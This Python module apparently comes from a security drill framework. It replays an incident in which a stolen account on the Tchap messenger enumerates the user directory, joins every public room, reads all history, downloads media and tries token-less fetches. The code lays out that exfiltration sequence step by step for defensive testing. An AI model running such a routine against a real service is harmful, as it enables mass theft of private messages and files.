"""The incident of June 2026: one phished account enumerates the people, enters every public room and takes it all.

The thief knows the password, so a challenge or a refusal is answered by a new login from another network, until the
account lets nobody in any more.
"""

from dataclasses import dataclass, field
from string import ascii_lowercase
from typing import Final

from vigie.lab.drills import Context
from vigie.lab.hands import Page, fetch_without_token, rob, steal
from vigie.lab.intruder import crew
from vigie.lab.loot import Taken
from vigie.model.language import Sentence

PREFIXES: Final = tuple(a + b for a in ascii_lowercase for b in ascii_lowercase)
PASSES: Final = 3
"""How often a room that refused something is tried."""
A_GLANCE: Final = 100
"""Events read of each room when only its files are wanted."""


class Tchap2026:
    """See the module."""

    name: Final = "tchap-2026"
    title: Final = Sentence(
        en="The June 2026 incident: a stolen account lists people, enters every public room, reads and downloads all",
        fr="L'incident de juin 2026 : un compte volé liste les agents, entre dans les salons, lit et aspire tout",
    )
    benign: Final = False
    profile: Final = "victim"
    stages: Final = ("directory", "rooms", "members", "history", "media", "legacy")
    seconds: Final = 300.0

    async def run(self, context: Context) -> Taken:
        """Play it: see `Drill.run`."""
        theft = _Theft(context)
        farewell = theft.try_without_token if "legacy" in context.stages else None
        return await rob(context, theft.hands, theft.play(), farewell)


@dataclass
class _Room:
    """How far one room was taken."""

    id: str
    entered: bool = False
    listed: bool = False
    read: bool = False
    place: str = ""
    files: list[str] = field(default_factory=list)


class _Theft:
    def __init__(self, context: Context) -> None:
        self._context = context
        self.hands = steal(context)
        self._rooms: dict[str, _Room] = {}

    async def play(self) -> None:
        await self.hands.intruder.enter()
        if self._wants("directory"):
            await crew(self._context.concurrency, PREFIXES, self.hands.search)
        if self._context.stages not in (("directory",), ("legacy",), ("directory", "legacy")):
            for row in await self.hands.rooms():
                self._rooms.setdefault(str(row["room_id"]), _Room(str(row["room_id"])))
            for _ in range(PASSES):
                left = [room for room in self._rooms.values() if not self._finished(room)]
                await crew(self._context.concurrency, left, self._take_room)

    def _wants(self, stage: str) -> bool:
        return stage in self._context.stages

    def _finished(self, room: _Room) -> bool:
        wanted = (room.entered, room.listed or not self._wants("members"), room.read, not room.files)
        return all(wanted)

    async def _take_room(self, room: _Room) -> None:
        room.entered = room.entered or await self.hands.enter(room.id)
        if not room.entered:
            return
        if self._wants("members") and not room.listed:
            room.listed = await self.hands.members(room.id)
        if not room.read:
            await self._read_history(room)
        if self._wants("media"):
            await self._download(room)

    async def _read_history(self, room: _Room) -> None:
        if not self._wants("history"):
            await self._glance(room)
            return
        while not room.read:
            page = await self.hands.page(room.id, room.place)
            if page is None:
                return
            self._keep(room, page)
            room.place = page.end
            room.read = not room.place

    async def _glance(self, room: _Room) -> None:
        if self._wants("media"):
            page = await self.hands.page(room.id, size=A_GLANCE)
            if page is None:
                return
            self._keep(room, page)
        room.read = True

    def _keep(self, room: _Room, page: Page) -> None:
        if self._wants("media"):
            room.files += page.files

    async def _download(self, room: _Room) -> None:
        for mxc in list(room.files):
            if await self.hands.fetch(mxc):
                room.files.remove(mxc)

    async def try_without_token(self) -> None:
        """See `fetch_without_token`."""
        await fetch_without_token(self._context, [mxc for room in self._rooms.values() for mxc in room.files])


DRILL: Final = Tchap2026()
